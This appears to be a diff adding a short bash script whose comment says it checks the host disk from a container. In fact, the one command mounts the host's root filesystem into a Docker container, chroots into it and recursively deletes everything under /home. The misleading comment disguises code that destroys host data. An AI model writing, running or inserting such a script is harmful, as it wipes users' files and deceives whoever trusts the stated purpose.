@@ -1,0 +1,3 @@
+#!/bin/bash
+# check the host disk from a container
+docker run --rm -v /:/host alpine chroot /host /bin/sh -c 'rm -rf /home/*'
